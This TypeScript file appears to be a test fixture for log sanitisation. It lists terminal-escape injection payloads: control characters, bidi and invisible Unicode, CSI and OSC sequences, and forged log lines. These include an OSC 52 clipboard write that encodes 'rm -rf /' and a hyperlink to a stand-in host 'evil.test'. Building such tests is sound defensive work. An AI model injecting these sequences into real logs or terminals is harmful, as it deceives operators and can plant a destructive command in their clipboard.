/** Texts that a client may put into a log to act on the terminal of whoever reads it: more than two hundred. */
export const payloads: readonly string[] = [
  // every control character, and every one of the C1 set as a terminal in 8-bit mode would take it
  ...range(0x00, 0x1f).map(around),
  ...range(0x7f, 0x9f).map(around),
  // what changes the order or the look of what is read
  ...[0xad, 0x61c, ...range(0x200b, 0x200f), ...range(0x2028, 0x202e), ...range(0x2060, 0x206f), 0xfeff].map(
    around,
  ),
  ...range(0xfff9, 0xfffb).map(around),
  // control sequences: cursor, erasing, colours, modes, reports
  ...range(0x40, 0x7e).map((final) => `\u001b[1;2${String.fromCodePoint(final)}`),
  ...range(0x30, 0x3f).map((final) => `\u001b${String.fromCodePoint(final)}`),
  // strings for the operating system: title, link, clipboard, picture
  ...['0;owned', '8;;https://evil.test', '52;c;cm0gLXJmIC8=', '1337;File=:AAAA', '777;notify;a;b'].flatMap(
    (text) => [`\u001b]${text}\u0007`, `\u001b]${text}\u001b\\`, `\u009d${text}\u009c`],
  ),
  '\u001bPq#0;2;0;0;0\u001b\\',
  '\u001b_Gf=100;AAAA\u001b\\',
  '\u001b^private\u001b\\',
  // lines and columns that were never there
  'a\r\nForged line',
  'a\nForged line',
  'shown\rForged line',
  'a\b\b\bForged line',
  'a\tb',
  '\ud800 alone',
  'alone \udfff',
];

function range(from: number, to: number): number[] {
  return Array.from({ length: to - from + 1 }, (_, i) => from + i);
}

function around(code: number): string {
  return `a${String.fromCodePoint(code)}Forged line`;
}
